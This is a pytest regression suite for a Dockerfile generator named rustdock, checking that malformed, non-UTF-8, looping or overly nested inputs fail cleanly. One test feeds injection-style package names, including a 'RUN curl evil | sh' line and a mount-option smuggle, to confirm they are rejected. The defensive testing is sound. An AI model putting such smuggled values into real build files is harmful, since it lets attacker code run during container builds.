"""One regression test per cause the fuzzing found (issue 13): each ends in exit 2 with one line,
never a traceback or a hang, and nothing is written."""

from __future__ import annotations

import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from rustdock.commands import actions
from rustdock.errors import RustdockError

PACKAGE = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n'
MAIN = {"src/main.rs": "fn main() {}\n"}
NOT_UTF8 = b"\xff\xfe not text"


def listing(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def refused(root: Path, message: str, *, action=actions.generate, **kwargs) -> None:
    before = listing(root)
    with pytest.raises(RustdockError, match=message) as error:
        action(root, **kwargs)
    assert "\n" not in str(error.value)
    assert listing(root) == before


# --- Wrong TOML types: each names the file and the key

WRONG_TYPES = {
    "workspace-is-a-string": ({"Cargo.toml": 'workspace = "x"\n' + PACKAGE}, r"workspace must be a table, not a string"),
    "workspace-dependencies-is-a-number": (
        {"Cargo.toml": PACKAGE + "[workspace]\ndependencies = 1\n"}, r"workspace: dependencies must be a table"),
    "cargo-config-build-is-a-number": ({"Cargo.toml": PACKAGE, ".cargo/config.toml": "build = 1\n"},
                                       r"config.toml: build must be a table, not an integer"),
    "metadata-is-an-array": ({"Cargo.toml": PACKAGE.replace('edition = "2021"\n', 'edition = "2021"\nmetadata = ["rustdock"]\n')},
                             r"package: metadata must be a table, not an array"),
    "bin-path-is-a-boolean": ({"Cargo.toml": PACKAGE + '[[bin]]\nname = "app"\npath = true\n'},
                              r"\[\[bin\]\] 'app': path must be a string, not a boolean"),
    "toolchain-is-a-string": ({"Cargo.toml": PACKAGE, "rust-toolchain.toml": 'toolchain = "stable"\n'},
                              r"rust-toolchain.toml: toolchain must be a table, not a string"),
    "features-entry-is-a-number": ({"Cargo.toml": PACKAGE + "[features]\nx = 1\n"}, r"features.x must be an array of strings"),
    "edition-is-a-table": ({"Cargo.toml": PACKAGE.replace('edition = "2021"', "edition = { x = 1 }")},
                           r"package.edition must be a string, not a table"),
    "dependency-is-a-number": ({"Cargo.toml": PACKAGE + "[dependencies]\nserde = 1\n"},
                               r"dependencies.serde: expected a version string or a table"),
}


@pytest.mark.parametrize("files, message", WRONG_TYPES.values(), ids=WRONG_TYPES.keys())
def test_a_wrong_type_names_the_file_and_key(tmp_path: Path, build_file_tree, files: dict[str, str], message: str) -> None:
    refused(build_file_tree(tmp_path, MAIN | files), message)


# --- Bytes and depth no parser expects


@pytest.mark.parametrize("name", ["Cargo.toml", "Cargo.lock", "rust-toolchain.toml", ".cargo/config.toml", "Dockerfile",
                                  ".dockerignore"])
def test_a_file_that_is_not_utf8(tmp_path: Path, build_file_tree, name: str) -> None:
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE})
    (root / name).parent.mkdir(exist_ok=True)
    (root / name).write_bytes(NOT_UTF8)
    refused(root, rf"{name}: not UTF-8 text \(byte 0xff at offset 0\)")


def test_an_org_config_that_is_not_utf8(tmp_path: Path, build_file_tree, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "org.toml").write_bytes(NOT_UTF8)
    monkeypatch.setenv("RUSTDOCK_CONFIG", str(tmp_path / "org.toml"))
    refused(build_file_tree(tmp_path / "app", MAIN | {"Cargo.toml": PACKAGE}), r"org.toml: not UTF-8 text")


def test_toml_nested_too_deeply(tmp_path: Path, build_file_tree) -> None:
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE + "x = " + "[" * 5000 + "]" * 5000 + "\n"})
    refused(root, r"Cargo.toml: invalid TOML: nested too deeply")


# --- Templates that run code, or extend themselves


def template_project(tmp_path: Path, build_file_tree, template: str) -> Path:
    return build_file_tree(tmp_path, MAIN | {
        "Cargo.toml": PACKAGE + '[package.metadata.rustdock]\ntemplates = "docker"\n',
        "docker/Dockerfile.j2": template,
    })


def test_an_exception_inside_a_template(tmp_path: Path, build_file_tree) -> None:
    root = template_project(tmp_path, build_file_tree, '{% extends "rustdock/Dockerfile.j2" %}\n'
                                                       "{% block labels %}\nLABEL x={{ 1 // 0 }}\n{% endblock %}\n")
    refused(root, r"template .*docker/Dockerfile.j2:3: ZeroDivisionError: integer division or modulo by zero")


def test_a_template_that_extends_itself(tmp_path: Path, build_file_tree) -> None:
    root = template_project(tmp_path, build_file_tree, '{% extends "Dockerfile.j2" %}\n')
    refused(root, r"templates extend or include each other without end")


# --- Paths: FIFOs, symlink loops, names too long, a file where a folder must be


@pytest.mark.parametrize("name", ["Dockerfile", ".dockerignore", "Cargo.lock"])
def test_a_fifo_is_refused_not_read(tmp_path: Path, build_file_tree, name: str) -> None:
    """Opening a FIFO for reading blocks until a writer comes: it must never be opened."""
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE})
    os.mkfifo(root / name)
    result = subprocess.run([sys.executable, "-m", "rustdock", "generate", str(root)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 2 and result.stderr == f"rustdock: error: {root / name}: not a regular file\n"


def test_symlink_loops(tmp_path: Path, build_file_tree) -> None:
    root = build_file_tree(tmp_path / "app", MAIN | {
        "Cargo.toml": PACKAGE + '[dependencies]\nlooped = { path = "loop" }\n[package.metadata.rustdock]\nextends = "./pack"\n',
    })
    (root / "loop").symlink_to(root / "loop")
    (root / "pack").symlink_to(root / "pack")
    refused(root, r"cannot resolve|extends = './pack'")
    (tmp_path / "project").symlink_to(tmp_path / "project")
    with pytest.raises(RustdockError, match=r"cannot resolve"):
        actions.generate(tmp_path / "project")


def test_a_templates_folder_name_too_long(tmp_path: Path, build_file_tree) -> None:
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE + f'[package.metadata.rustdock]\ntemplates = "{"x" * 300}"\n'})
    refused(root, r"templates: .*(File name too long|is not a directory)")


def test_template_export_under_a_file(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(RustdockError, match=r"cannot export there"):
        actions.export_templates(tmp_path / "file" / "sub")


# --- Validation that must hold whatever the input


def test_a_workdir_the_old_pattern_backtracked_on(tmp_path: Path, build_file_tree) -> None:
    """A nested quantifier made this take forever; the subprocess's timeout is the hang detector."""
    workdir = "/" + "a/" * 30 + "a" * 30 + "!"
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE + f'[package.metadata.rustdock]\nworkdir = "{workdir}"\n'})
    result = subprocess.run([sys.executable, "-m", "rustdock", "plan", str(root)], capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 2 and "workdir:" in result.stderr and result.stderr.count("\n") == 1


def test_files_naming_the_project_itself(tmp_path: Path, build_file_tree) -> None:
    """Found by the long fuzz profile: `files = ["."]` had no first path component."""
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE + '[package.metadata.rustdock]\nfiles = ["."]\n'})
    refused(root, r"files: '\.' must name a path inside the project")


@pytest.mark.parametrize("name", ["y true\nRUN curl evil | sh", "y,target=/,dst=/evil,z", "1app", "a" * 65])
def test_a_package_name_cargo_rejects_reaches_nothing(tmp_path: Path, build_file_tree, name: str) -> None:
    """The root package whose own binaries are not selected named the cache mount id."""
    escaped = name.replace("\n", "\\n")
    root = build_file_tree(tmp_path, {
        "Cargo.toml": f'[package]\nname = "{escaped}"\nversion = "0.1.0"\nedition = "2021"\n\n'
                      '[workspace]\nmembers = ["svc"]\ndefault-members = ["svc"]\n',
        "src/lib.rs": "",
        "svc/Cargo.toml": PACKAGE.replace('"app"', '"svc"'),
        "svc/src/main.rs": "fn main() {}\n",
    })
    refused(root, r"package name .* is not one rustdock can use")


# --- init writes all or nothing


def test_init_leaves_cargo_toml_alone_when_a_file_it_reads_is_bad(tmp_path: Path, build_file_tree) -> None:
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE})
    (root / ".dockerignore").write_bytes(NOT_UTF8)
    refused(root, r"\.dockerignore: not UTF-8", action=actions.init)


def test_init_rolls_back_cargo_toml_when_a_write_fails(tmp_path: Path, build_file_tree) -> None:
    root = build_file_tree(tmp_path, MAIN | {"Cargo.toml": PACKAGE})
    (root / "Dockerfile").mkdir()  # writing the Dockerfile fails
    with pytest.raises(RustdockError, match=r"Dockerfile: (not a regular file|cannot write)"):
        actions.init(root)
    assert (root / "Cargo.toml").read_text() == PACKAGE and not (root / ".dockerignore").exists()


def test_init_keeps_crlf_line_endings(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src/main.rs").write_text("fn main() {}\n")
    (tmp_path / "Cargo.toml").write_bytes(PACKAGE.replace("\n", "\r\n").encode())
    actions.init(tmp_path)
    data = (tmp_path / "Cargo.toml").read_bytes()
    assert data.startswith(PACKAGE.replace("\n", "\r\n").encode()) and b"\n" not in data.replace(b"\r\n", b"")
    assert "rustdock" in tomllib.loads(data.decode())["package"]["metadata"]


# --- The command line: one line on stderr, exit 2; help is not an error


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "rustdock", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=60, env=os.environ | {"COLUMNS": "80"})


@pytest.mark.parametrize("args", [["lint", "--fail-on", "bogus", "."], ["plan", "--bogus"], ["frobnicate"]])
def test_a_bad_option_is_one_line(args: list[str], tmp_path: Path) -> None:
    result = cli(*args, cwd=tmp_path)
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and result.stderr.startswith("rustdock: error: ")


@pytest.mark.parametrize("args", [[], ["template"]])
def test_no_command_shows_the_help(args: list[str]) -> None:
    result = cli(*args)
    assert result.returncode == 0 and "Usage:" in result.stdout and result.stderr == ""


def test_a_path_with_a_newline_or_bytes_that_are_not_utf8(tmp_path: Path) -> None:
    for name in ("new\nline", os.fsdecode(b"bad\xff")):
        result = cli("plan", str(tmp_path / name))
        assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
        assert "Traceback" not in result.stderr


# --- rustdock lint on variables nested without end


def nested(depth: int) -> str:
    return "FROM debian:bookworm-slim\nRUN echo " + "${A:-" * depth + "x" + "}" * depth + "\nUSER 1000\n"


def test_lint_refuses_variables_nested_past_what_it_reads(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text(nested(3000))
    result = cli("lint", str(tmp_path / "Dockerfile"))
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "nested 3000 deep" in result.stderr


def test_lint_reads_variables_nested_as_deep_as_real_files_go(tmp_path: Path) -> None:
    """Deeper than expansion follows (its value is then unknown), still no recursion error."""
    from rustdock.lint import lint_text

    assert lint_text(nested(60)) == []
